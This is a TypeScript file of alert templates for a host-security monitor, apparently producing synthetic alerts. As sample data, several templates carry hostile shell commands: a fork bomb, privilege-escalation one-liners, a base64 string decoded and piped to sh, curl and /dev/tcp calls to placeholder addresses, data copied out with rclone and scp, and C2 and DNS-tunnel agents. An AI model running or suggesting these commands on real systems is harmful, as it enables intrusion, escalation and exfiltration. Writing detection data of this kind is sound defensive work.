import type { AlertTemplate } from '../alert-kind.ts';

/** Alert types about the operating system of a host. */
export const host = {
  cpu_usage: {
    frequency: 6,
    severities: [0, 1, 3, 5, 3],
    titles: ['CPU saturated on {host}', 'CPU starves the GPUs of {host}'],
    descriptions: [
      'CPU utilization on {host} is {percent} % for {count} minutes; {process} uses most of it.',
      'Data loaders of {process} wait for the CPU while GPUs of {host} idle.',
    ],
    commands: ['python3 preprocess.py --workers 96', 'zstd -19 -T0 shard.tar', 'stress-ng --cpu 0'],
    sections: ['workload_details'],
  },
  process_anomaly: {
    frequency: 8,
    severities: [0, 2, 5, 4, 1],
    titles: ['Unusual process tree under {process}', 'Process {process} started by an unexpected parent'],
    descriptions: [
      '{process} (pid {pid}) was started from {file}, which never started processes on {host} before.',
      '{process} forked {count} children within a second and each opened a network socket.',
    ],
    commands: ['bash -i', 'python3 -c "import pty; pty.spawn(\'/bin/sh\')"', 'perl -e "fork while 1"'],
  },
  privilege_escalation: {
    frequency: 3,
    severities: [5, 4, 1, 0, 0],
    titles: ['Privilege escalation by {user}', 'Process gained root without a login'],
    descriptions: [
      '{process} (pid {pid}) changed from user {user} to root on {host} without passing through sudo or a login.',
      'A setuid binary under {file} was executed by {user} and started a root shell.',
    ],
    commands: ['pkexec /bin/sh', 'sudo -u#-1 /bin/bash', './dirtypipe /usr/bin/su'],
  },
  command_line_anomaly: {
    frequency: 6,
    severities: [0, 3, 5, 3, 1],
    titles: ['Suspicious command line', 'Encoded command executed by {user}'],
    descriptions: [
      '{user} ran a command on {host} that decodes and executes text from its own arguments.',
      'The command line of {process} carries an address ({ip}) and a shell redirection.',
    ],
    commands: [
      'bash -c "echo Y3VybCAtcyBodHRw | base64 -d | sh"',
      'curl -s http://{ip}:{port}/i.sh',
      'bash -c "exec 5<>/dev/tcp/{ip}/{port}"',
    ],
  },
  system_info_change: {
    frequency: 4,
    severities: [0, 1, 3, 4, 3],
    titles: ['System configuration of {host} changed', 'Kernel parameters changed on {host}'],
    descriptions: [
      '{user} changed {file} on {host} outside a change window.',
      'Kernel command line of {host} differs from its last boot: iommu=off was added.',
    ],
    commands: [
      'sysctl -w kernel.kptr_restrict=0',
      'grubby --update-kernel ALL --args iommu=off',
      'timedatectl set-ntp false',
    ],
  },
  network_anomaly: {
    frequency: 7,
    severities: [1, 3, 4, 3, 1],
    titles: ['Unusual outbound traffic from {host}', 'Connection to an address never seen before'],
    descriptions: [
      '{process} sent {size} MiB to {ip}:{port} within {count} minutes. {host} never talked to that network before.',
      '{process} scans port {port} of the cluster network from {host}.',
    ],
    commands: [
      'rclone copy /data remote:backup',
      'nmap -p {port} 10.0.0.0/16',
      'scp -r /mnt/checkpoints {user}@{ip}:',
    ],
  },
  cpu_anomaly: {
    frequency: 4,
    severities: [0, 2, 4, 3, 2],
    titles: ['Cache timing pattern on {host}', 'CPU performance counters show a side channel'],
    descriptions: [
      'Last-level cache misses of {process} follow a prime-and-probe pattern with a period of {count} us.',
      'Machine check events on {host}: {count} corrected errors on one core within the hour.',
    ],
    commands: ['./flush_reload -c 3', 'perf stat -e LLC-load-misses'],
  },
  kernel_oops: {
    frequency: 2,
    severities: [2, 4, 3, 1, 0],
    titles: ['Kernel oops on {host}', 'Kernel NULL pointer dereference in the GPU driver'],
    descriptions: [
      'The kernel of {host} reported an oops in nvidia_uvm while {process} was running. The kernel is tainted.',
      'BUG: unable to handle page fault, RIP in nvidia_drm, pid {pid}, comm {process}.',
    ],
    commands: ['python3 finetune_llama.py', 'tritonserver --model-repository /models'],
    sections: ['memory_details'],
  },
  unknown_binary_exec: {
    frequency: 5,
    severities: [1, 4, 4, 1, 0],
    titles: ['Unknown binary executed', 'Binary outside the image executed on {host}'],
    descriptions: [
      '{process} was executed from {file}. Its digest belongs to no package and to no image of this workspace.',
      'A file that {user} downloaded {count} seconds earlier was made executable and run on {host}.',
    ],
    commands: ['/dev/shm/.a/kworkerd', '/tmp/.font-unix/ld-musl', './linpeas.sh'],
  },
  rogue_ebpf: {
    frequency: 1,
    severities: [5, 4, 1, 0, 0],
    titles: ['Unapproved eBPF program loaded', 'eBPF program overrides a system call'],
    descriptions: [
      '{process} loaded an eBPF program of type kprobe that uses bpf_override_return on {host}.',
      'An eBPF program that hides entries of /proc was attached by {user}.',
    ],
    commands: ['bpftool prog load hide.o /sys/fs/bpf/hide', './pamspy -p /usr/lib/libpam.so.0'],
  },
  c2_covert_channel: {
    frequency: 2,
    severities: [6, 3, 1, 0, 0],
    titles: ['Command and control channel', 'DNS tunnel to {domain}'],
    descriptions: [
      '{process} calls {ip}:{port} every {count} seconds with a jitter below one percent, as implants do.',
      '{host} resolved {size} names under {domain} with random labels: data leaves through DNS.',
    ],
    commands: [
      './merlin-agent -url https://{domain}:{port}',
      'iodine -f {domain}',
      'python3 .cache/beacon.py',
    ],
  },
  vm_escape: {
    frequency: 1,
    severities: [8, 2, 0, 0, 0],
    titles: ['Virtual machine escape suspected', 'Guest touched hypervisor memory on {host}'],
    descriptions: [
      'The vGPU manager on {host} crashed in a handler of guest requests; then {process} started outside any guest.',
      'A guest with a virtual {model} wrote {count} times beyond its BAR window.',
    ],
    commands: ['qemu-system-x86_64 -name guest-17', 'nvidia-vgpu-mgr --guest 17'],
    sections: ['gpu_details', 'memory_details'],
  },
} satisfies Record<string, AlertTemplate>;
